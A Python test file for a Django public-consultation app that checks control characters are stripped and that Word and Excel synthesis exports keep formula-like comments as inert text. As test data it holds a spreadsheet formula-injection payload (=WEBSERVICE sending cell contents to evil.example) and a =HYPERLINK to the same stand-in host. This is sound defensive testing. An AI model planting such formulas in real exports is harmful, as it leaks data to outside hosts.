"""A citizen's comment with a control character or a formula (issue 14, points 4 and 6): cleaned
when sent; the synthesis (.docx and .xlsx, page and API) still answers for what is already
stored, and keeps the text a text."""

from __future__ import annotations

import io
import unicodedata

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook
from rest_framework.test import APIClient

from kehoach.consultation.models import Comment
from kehoach.consultation.services import comment_moderate, comment_submit, response_record
from kehoach.consultation.tests.conftest import comment_data

pytestmark = pytest.mark.django_db
FORMULA = '=WEBSERVICE("http://evil.example/?"&ENCODEURL(D5))'


def test_control_characters_are_dropped_when_sent(consultation, anon_client):
    data = comment_data(text="Dòng một\x0bdòng hai\x00\r\nhết", author_name=unicodedata.normalize("NFD", "Nguyễn Dân") + "\x07")
    response = anon_client.post(reverse("consultation:comment", args=[consultation.slug]), data,
                                REMOTE_ADDR="203.0.113.9")
    assert response.status_code == 302
    comment = Comment.objects.get()
    assert comment.text == "Dòng mộtdòng hai\nhết"
    assert comment.author_name == unicodedata.normalize("NFC", "Nguyễn Dân")


def test_api_text_is_cleaned(consultation, planner):
    comment = comment_submit(consultation=consultation, text="Góp ý", author_name="A",
                             ip_hash="h")
    client = APIClient()
    client.force_authenticate(planner)
    answer = client.put(f"/api/v1/consultations/{consultation.slug}/comments/{comment.pk}/response/",
                        {"kind": "giai_trinh", "text": "Giải\x0btrình\x1f."}, format="json")
    assert answer.status_code == 200
    assert comment.response.text == "Giảitrình."


@pytest.fixture
def hostile(consultation, planner):
    comment = comment_submit(consultation=consultation, text=FORMULA + "\x0bthêm",
                             author_name='=HYPERLINK("http://evil.example","Bấm")', ip_hash="h")
    Comment.objects.filter(pk=comment.pk).update(text=FORMULA + "\x0bthêm\x01")  # as stored before
    comment_moderate(comment=comment, status="published", actor=planner)
    response_record(comment=comment, kind="giai_trinh", text="@SUM(1)", actor=planner)
    return comment


def _cells(content: bytes) -> list:
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]


def test_synthesis_downloads_survive_control_characters_and_keep_formulas_as_text(
        hostile, consultation, planner_client, planner):
    client = APIClient()
    client.force_authenticate(planner)
    for url in (reverse("consultation:synthesis_docx", args=[consultation.slug]),
                f"/api/v1/consultations/{consultation.slug}/synthesis.docx"):
        response = client.get(url) if url.startswith("/api") else planner_client.get(url)
        assert response.status_code == 200, url
        text = "\n".join(c.text for t in Document(io.BytesIO(response.content)).tables
                         for r in t.rows for c in r.cells)
        assert FORMULA + "thêm" in text
    for url in (reverse("consultation:synthesis_xlsx", args=[consultation.slug]),
                f"/api/v1/consultations/{consultation.slug}/synthesis.xlsx"):
        response = client.get(url) if url.startswith("/api") else planner_client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        assert not [c for c in cells if c.data_type == "f"]
        texts = {c.value: c for c in cells if isinstance(c.value, str)}
        assert FORMULA + "thêm" in texts and texts[FORMULA + "thêm"].quotePrefix
        assert "@SUM(1)" in texts and texts["@SUM(1)"].data_type == "s"
